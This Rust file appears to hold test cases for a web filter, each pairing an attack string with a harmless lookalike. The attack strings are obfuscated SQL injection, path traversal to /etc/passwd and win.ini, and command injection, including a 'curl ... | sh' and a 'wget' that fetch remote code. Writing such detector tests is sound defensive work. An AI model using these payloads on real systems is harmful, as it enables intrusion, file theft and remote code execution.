//! SQL, paths and commands.

use crate::request::{Place, Request};
use crate::{Case, Item, encode};

pub fn items() -> Vec<Item> {
    vec![
        ("G16 SQL", sql()),
        ("G17 paths", paths()),
        ("G18 commands", commands()),
    ]
}

/// Each pair at each place.
fn at(places: &[Place], pairs: &[(&str, &str)]) -> Vec<Case> {
    let case = |place, (attack, twin): (&str, &str)| {
        Case::new(
            Request::holding(place, attack),
            Request::holding(place, twin),
        )
    };
    places
        .iter()
        .flat_map(|&place| pairs.iter().map(move |&pair| case(place, pair)))
        .collect()
}

fn sql() -> Vec<Case> {
    let pairs = [
        (
            "1/**/UNION/**/SELECT/**/name,2/**/FROM/**/users",
            "a credit /* national */ union /* to */ select a board",
        ),
        (
            "1/*!50000UNION*//*!50000SELECT*/ 1,2,3",
            "union /*!important*/ select one of the states",
        ),
        ("1\nUNION\nSELECT\nnull,null", "the union\nselect committee"),
        (
            "1 uNiOn aLl SeLeCt @@version",
            "The Union Selected All Versions",
        ),
        (
            "1 UNION\u{a0}SELECT\u{a0}user,pass\u{a0}FROM\u{a0}t",
            "union\u{a0}select\u{a0}\u{2013} wages from 9\u{a0}am",
        ),
        ("1\x0bunion\x0cselect\x0b(1)", "a\x0bunion\x0cof sets"),
        (
            "x' and name=char(97,100) union select char(65,66),0x4142",
            "char(97) is a letter, and 0x41 another",
        ),
        ("x' OR 'a'='a", "rock 'n' roll or 'a' to 'z'"),
        ("admin'/**/or/**/1=1-- -", "it's /* 1 or 2 */ 3 of 4"),
        ("x') or ('1'='1", "('one') or two ('half')"),
        ("1 or 1=1", "1 or 2, 3 = three"),
        ("x' and 7=7 and 'x'='x", "Ben's and Jerry's = 2 names"),
        ("1' AND SLEEP(5)#", "let me sleep (5 hours) and wake"),
        ("1;select pg_sleep(5)", "select a bed; sleep"),
        (
            "1'; WAITFOR DELAY '0:0:5'--",
            "we wait for delayed trains; 'delay' is 5",
        ),
        (
            "1 or benchmark(5000000,md5(1))",
            "a benchmark (5000000 rounds)",
        ),
        (
            "1; DROP/**/TABLE users--",
            "please do not drop tables; thanks",
        ),
        (
            "x' union select table_name from information_schema.tables-- ",
            "the information_schema tells of tables",
        ),
        (
            "1' and load_file(0x2f6574632f706173737764)",
            "load files (all 3)",
        ),
        (
            "x' and extractvalue(1,concat(0x7e,version()))",
            "extract values (1) and concatenate",
        ),
        (
            "1'; exec master..xp_cmdshell 'dir'",
            "xp_cmdshell is off here; good",
        ),
        (
            "un' 'ion' union select 'a' 'b',1",
            "'un' 'ion' and 'se' 'lect'",
        ),
    ];
    let mut cases = at(&Place::PARAMETERS, &pairs);
    // Written out in bytes: what a form's reader makes of them is not UTF-8.
    for (attack, twin) in [
        ("/i?id=1%20UNION%a0SELECT%a01,2", "/i?q=union%a0of%a0states"),
        ("/i?id=1%0aUNION%0aSELECT%0a1,2", "/i?q=union%0aof%0astates"),
        (
            "/i?id=1%2520union%2520select%25201",
            "/i?q=union%2520of%2520two",
        ),
        ("/i?id=1+%75nion+%73elect+1", "/i?q=%75nion+jack"),
    ] {
        cases.push(Case::new(Request::get(attack), Request::get(twin)));
    }
    cases
}

fn paths() -> Vec<Case> {
    [
        ("/app/..;/manager/html", "/app/a..;v=1/manager/html"),
        ("/app/..;x=1/..;y/admin", "/app/x;y=1..2/admin"),
        ("/files/..%2f..%2fconf", "/files/v1..2%2fconf"),
        ("/files/..%2F..%2Fconf", "/files/a%2Fb%2Fconf"),
        ("/files/..%252f..%252fconf", "/files/a%252fb"),
        ("/files/%2e%2e/%2e%2e/conf", "/files/%2e%2econf/a%2eb"),
        ("/files/.%2e/%2e./conf", "/files/.%2ehidden/a%2e."),
        ("/files/%2e%2e%2fconf", "/files/a%2e%2eb%2fconf"),
        ("/files/%252e%252e/conf", "/files/a%252eb/conf"),
        ("/files/..%5c..%5cconf", "/files/a..%5cb"),
        ("/files/..%255cconf", "/files/a%255cconf"),
        ("/files/..\\..\\conf", "/files/a\\b"),
        ("/files/....//....//conf", "/files/....png"),
        ("/files/....\\/conf", "/files/..../conf"),
        ("/files/%c0%ae%c0%ae/conf", "/files/caf%c3%a9/conf"),
        ("/files/..%c0%afconf", "/files/a%c3%afconf"),
        ("/files/%u002e%u002e/conf", "/files/a%u002eb/conf"),
        ("/view?f=../../../../etc/passwd", "/view?f=../img/logo.png"),
        (
            "/view?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/view?f=docs%2fetc%2fpasswd.html",
        ),
        ("/view?f=....//....//etc/passwd", "/view?q=What....+/etc+is"),
        (
            "/view?f=..%5c..%5cwindows%5cwin.ini",
            "/view?f=C:%5cwindows%5cwin.ini",
        ),
        ("/view?f=../../WEB-INF/web.xml", "/view?f=WEB/info.xml"),
    ]
    .map(|(attack, twin)| Case::new(Request::get(attack), Request::get(twin)))
    .into_iter()
    .chain(at(
        &[
            Place::Form,
            Place::Json,
            Place::Cookie,
            Place::MultipartName,
        ],
        &[
            ("../../../../etc/passwd", "../../src/lib.rs"),
            ("..\\..\\windows\\win.ini", "..\\docs\\win.txt"),
            ("/var/www/../../etc/shadow", "/etc/shadow is a file"),
        ],
    ))
    .collect()
}

fn commands() -> Vec<Case> {
    let pairs = [
        ("127.0.0.1;cat$IFS/etc/passwd", "a cat; IFS and /etc/passwd"),
        ("127.0.0.1;cat${IFS}/etc/passwd", "${IFS} is the separator"),
        ("127.0.0.1|cat$IFS$9/etc/shadow", "the cat | $9 a kilo"),
        ("x;{cat,/etc/passwd}", "sets {cat,dog} and {a,b}"),
        ("x;c'a't /etc/passwd", "it's 'a' cat; isn't it"),
        ("x;c\"a\"t /e\"t\"c/passwd", "a \"cat\"; a \"dog\" /etc"),
        ("x;c\\at /et\\c/passwd", "a\\b; c\\d"),
        ("x;ca$@t /etc/passwd", "mail $@ home; cat /dogs"),
        ("x;w$1hoami", "who am I; $1 each"),
        ("x|/???/c?t /???/p??s??", "what??? /who/ c?t | why??"),
        ("x;/bin/c*t /etc/pass*", "a * b; /bin of c*t"),
        ("$(whoami)", "$(price) and whoami"),
        ("`id`", "`idea`"),
        (
            "x&&wget http://203.0.113.9/x",
            "we get & go to http://example.org/",
        ),
        (
            "x\ncurl -s http://203.0.113.9/x|sh",
            "hair:\ncurls and more http://example.org/",
        ),
        ("x||sleep 5", "sleep | 5 hours"),
        ("x;ls -la", "a; ls or lx"),
        ("x;uname -a;", "name; uname is a word"),
        ("x|ping -c 1 203.0.113.9", "ping | pong 1"),
        ("x;/usr/bin/id;", "the file /usr/bin/id"),
    ];
    let mut cases = at(&Place::PARAMETERS, &pairs);
    for (attack, twin) in [
        ("() ;cat /etc/passwd", "(compatible; cat/1.0)"),
        ("x;cat${IFS}/etc/passwd", "x;cat/1.0"),
    ] {
        let agent = |text: &str| Request::get("/").with("User-Agent", text);
        cases.push(Case::new(agent(attack), agent(twin)));
        let hidden = |text: &str| {
            Request::get(format!(
                "/ping?h={}",
                encode::percent(&encode::percent(text))
            ))
        };
        cases.push(Case::new(hidden(attack), hidden(twin)));
    }
    cases
}
